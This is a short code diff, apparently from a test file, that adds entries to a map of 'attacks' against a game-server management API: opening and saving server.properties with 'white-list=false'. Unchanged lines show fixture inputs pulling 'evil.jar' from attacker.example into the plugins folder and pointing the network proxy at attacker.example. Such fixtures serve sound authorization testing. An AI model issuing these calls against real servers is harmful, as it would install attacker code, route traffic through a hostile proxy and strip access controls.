@@ -76,6 +76,15 @@ export const attacks: { readonly [N in CallName]?: CallInput<N> } = {
   'files.pack': { serverId, folder: '/', names: ['world'] },
   'files.unpack': { serverId, folder: '/', name: 'a.zip', replace: true },
   'files.pull': { serverId, folder: '/plugins', url: 'https://attacker.example/evil.jar', name: null },
+  'texts.open': { serverId, path: '/server.properties' },
+  'texts.save': {
+    serverId,
+    path: '/server.properties',
+    text: 'white-list=false',
+    format: { encoding: 'utf-8', bom: false },
+    version: null,
+  },
+  'texts.dropDraft': { serverId, path: '/server.properties' },
   'network.setProxy': {
     use: 'own',
     own: { kind: 'http', host: 'attacker.example', port: 8080, user: '', except: [] },
